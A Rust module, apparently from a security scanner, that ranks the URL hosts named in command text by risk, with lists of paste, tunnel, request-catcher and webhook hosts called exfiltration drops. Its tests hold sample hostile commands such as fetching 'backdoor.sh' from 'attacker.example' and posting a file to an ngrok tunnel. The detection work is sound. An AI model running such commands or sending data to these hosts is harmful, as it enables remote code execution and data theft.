//! Where a command talks to: the hosts of the URLs in a piece of text, classified.

use regex::Regex;
use std::net::Ipv4Addr;
use std::sync::LazyLock;

/// The kind of endpoint, from the most to the least alarming.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Target {
    /// A public IPv4 address instead of a name.
    PublicIp,
    /// A paste site, tunnel or request catcher: where stolen data goes.
    Exfil,
    /// A chat bot API or webhook (Discord, Telegram, Slack): legitimate for notifications,
    /// also a favourite drop for stolen data.
    Chat,
    /// A URL shortener hiding the real host.
    Shortener,
    /// A named host over plain `http://` (or no scheme, which curl and wget read as http).
    PlainHttp,
    /// No URL in the text (a variable, a file).
    Unknown,
    /// A named host over `https://`.
    Https,
    /// Loopback, private or link-local addresses, `localhost`.
    Local,
}

/// Chat webhooks and bot APIs.
pub const CHAT_HOSTS: &[&str] = &[
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "api.telegram.org/bot",
    "hooks.slack.com/services",
];

/// Request catchers and out-of-band interaction servers: no legitimate use in a skill.
pub const CATCHER_HOSTS: &[&str] = &[
    "webhook.site",
    "requestbin",
    "pipedream.net",
    "beeceptor.com",
    "hookbin.com",
    "requestcatcher.com",
    "interact.sh",
    "oast.fun",
    "oast.me",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "burpcollaborator.net",
    "canarytokens.com",
    "dnslog.cn",
    "ceye.io",
];

/// Paste sites, anonymous file drops and tunnels (request catchers included).
pub const EXFIL_HOSTS: &[&str] = &[
    "ngrok.io",
    "ngrok-free.app",
    "ngrok.app",
    "ngrok.dev",
    "trycloudflare.com",
    "loca.lt",
    "localtunnel.me",
    "serveo.net",
    "pastebin.com",
    "paste.ee",
    "hastebin.com",
    "ghostbin",
    "rentry.co",
    "transfer.sh",
    "0x0.st",
    "file.io",
    "termbin.com",
    "ix.io",
    "temp.sh",
    "bashupload.com",
    "anonfiles",
    "gofile.io",
    "catbox.moe",
];

const SHORTENERS: &[&str] = &[
    "bit.ly",
    "tinyurl.com",
    "is.gd",
    "t.co",
    "goo.gl",
    "rb.gy",
    "cutt.ly",
    "shorturl.at",
    "ow.ly",
    "v.gd",
    "rebrand.ly",
    "tiny.cc",
];

static URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\b(https?|ftps?|wss?)://(?:[^\s/@'"`<>]+@)?(\[[0-9a-f:]+\]|[^\s/:'"`<>)\]|;,?#\\]+)(?::\d+)?([^\s'"`<>)|;]*)"#)
        .expect("constant regex")
});

/// A host without a scheme right after curl / wget options: `curl evil.example/x.sh`.
static BARE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:^|[\s"'=(])((?:\d{1,3}\.){3}\d{1,3}|(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,24})(?::\d{1,5})?/[^\s'"]*"#)
        .expect("constant regex")
});

/// Classifies one host (lower-case, no port) and the path that follows it.
pub fn classify_host(host: &str, path: &str) -> Target {
    let host = host.trim_end_matches('.');
    if host == "localhost" || host.ends_with(".localhost") || host.ends_with(".local") {
        return Target::Local;
    }
    if host.starts_with('[') {
        return if host == "[::1]" {
            Target::Local
        } else {
            Target::PublicIp
        };
    }
    if let Ok(ip) = host.parse::<Ipv4Addr>() {
        return if is_local(ip) {
            Target::Local
        } else {
            Target::PublicIp
        };
    }
    let hp = format!("{host}{path}");
    let listed = |list: &[&str]| {
        list.iter()
            .any(|h| hp.starts_with(h) || hp.contains(&format!(".{h}")))
    };
    if listed(CHAT_HOSTS) {
        return Target::Chat;
    }
    if listed(EXFIL_HOSTS) || listed(CATCHER_HOSTS) {
        return Target::Exfil;
    }
    if SHORTENERS
        .iter()
        .any(|s| host == *s || host.ends_with(&format!(".{s}")))
    {
        return Target::Shortener;
    }
    Target::Https
}

/// Loopback, private (RFC 1918), CGNAT, link-local and unspecified addresses.
pub fn is_local(ip: Ipv4Addr) -> bool {
    let o = ip.octets();
    ip.is_loopback()
        || ip.is_private()
        || ip.is_link_local()
        || ip.is_unspecified()
        || ip.is_broadcast()
        || o[0] == 0
        || (o[0] == 100 && (64..128).contains(&o[1]))
}

/// The most alarming endpoint named in `text`.
pub fn worst_target(text: &str) -> Target {
    let mut worst: Option<Target> = None;
    let mut any = false;
    for c in URL.captures_iter(text).take(16) {
        any = true;
        let scheme = c.get(1).map_or("", |m| m.as_str()).to_ascii_lowercase();
        let host = c.get(2).map_or("", |m| m.as_str()).to_ascii_lowercase();
        let path = c.get(3).map_or("", |m| m.as_str()).to_ascii_lowercase();
        let mut t = classify_host(&host, &path);
        if t == Target::Https && (scheme == "http" || scheme == "ftp" || scheme == "ws") {
            t = Target::PlainHttp;
        }
        worst = Some(worst.map_or(t, |w| w.min(t)));
    }
    if !any {
        let lower = text.to_ascii_lowercase();
        for c in BARE.captures_iter(&lower).take(16) {
            let host = c.get(1).map_or("", |m| m.as_str());
            // A file name such as install.sh is no host.
            if host.parse::<Ipv4Addr>().is_err() && looks_like_file(host) {
                continue;
            }
            let mut t = classify_host(host, "");
            if t == Target::Https {
                t = Target::PlainHttp;
            }
            worst = Some(worst.map_or(t, |w| w.min(t)));
        }
    }
    worst.unwrap_or(Target::Unknown)
}

fn looks_like_file(host: &str) -> bool {
    let tld = host.rsplit('.').next().unwrap_or("");
    matches!(
        tld,
        "sh" | "py"
            | "js"
            | "ts"
            | "md"
            | "txt"
            | "json"
            | "yaml"
            | "yml"
            | "toml"
            | "zip"
            | "gz"
            | "tar"
            | "tgz"
            | "exe"
            | "bin"
            | "ps1"
            | "rb"
            | "pl"
            | "php"
            | "html"
            | "css"
    ) && !host.contains("get.")
        && host.matches('.').count() == 1
}

/// How many levels a fetch-and-run moves for where it fetches from.
pub fn fetch_bump(t: Target) -> i8 {
    match t {
        Target::PublicIp | Target::Exfil | Target::Chat => 3,
        Target::Shortener | Target::PlainHttp => 2,
        Target::Unknown => 1,
        Target::Https | Target::Local => 0,
    }
}

/// Every public IPv4 URL host in `text`.
pub fn public_ip_urls(text: &str) -> bool {
    URL.captures_iter(text).take(16).any(|c| {
        let host = c.get(2).map_or("", |m| m.as_str());
        host.parse::<Ipv4Addr>().is_ok_and(|ip| !is_local(ip))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classifies_targets() {
        assert_eq!(
            worst_target("curl -fsSL http://91.92.242.30/x"),
            Target::PublicIp
        );
        assert_eq!(worst_target("curl http://127.0.0.1:8080/x"), Target::Local);
        assert_eq!(
            worst_target("curl https://example.com/install.sh"),
            Target::Https
        );
        assert_eq!(
            worst_target("curl http://example.com/install.sh"),
            Target::PlainHttp
        );
        assert_eq!(
            worst_target("curl attacker.example/backdoor.sh"),
            Target::PlainHttp
        );
        assert_eq!(worst_target("curl 203.0.113.7/x"), Target::PublicIp);
        assert_eq!(worst_target("curl $URL"), Target::Unknown);
        assert_eq!(worst_target("bash install.sh"), Target::Unknown);
        assert_eq!(
            worst_target("curl -d @f https://abc.ngrok-free.app/in"),
            Target::Exfil
        );
        assert_eq!(
            worst_target("https://discord.com/api/webhooks/1/x"),
            Target::Chat
        );
        assert_eq!(worst_target("https://bit.ly/abc"), Target::Shortener);
    }
}
